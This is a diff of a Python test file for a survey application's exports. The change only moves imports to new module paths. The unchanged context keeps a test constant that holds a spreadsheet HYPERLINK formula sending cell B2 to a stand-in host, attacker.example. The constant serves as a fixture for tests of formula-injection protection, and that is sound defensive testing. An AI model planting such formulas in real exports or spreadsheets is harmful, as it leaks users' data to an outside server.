@@ -16,10 +16,10 @@ import openpyxl
 import pytest
 import sqlalchemy as sa
 
-from survey.catalog import survey_by_code
+from survey.core.text_safety import FORMULA_STARTERS, csv_cell, csv_value
 from survey.models import Answer, Question, Unit
-from survey.responses import submit_response
-from survey.text_safety import FORMULA_STARTERS, csv_cell, csv_value
+from survey.responses.storing import submit_response
+from survey.surveys.catalog import survey_by_code
 from tests.factories import make_organization, make_surveyed_commune, make_unit
 
 ATTACK = 'HYPERLINK("http://attacker.example/?leak="&B2,"Bấm vào đây")'
@@ -173,8 +173,8 @@ def test_the_survey_workbook_of_an_officer_stores_its_notes_as_text(app, db, run
     tagged = next(q for q in survey.questions if q.code == "gop_y")
     tagged.organization_id = make_organization(db, code="phunu").id
     db.session.commit()
-    from survey.access import withheld_text_questions
-    from survey.exports import survey_xlsx
+    from survey.accounts.access import withheld_text_questions
+    from survey.reports.exports import survey_xlsx
     from tests.factories import make_user
 
     officer = make_user(db, role="org_officer", organization_id=survey.organizations[0].id)
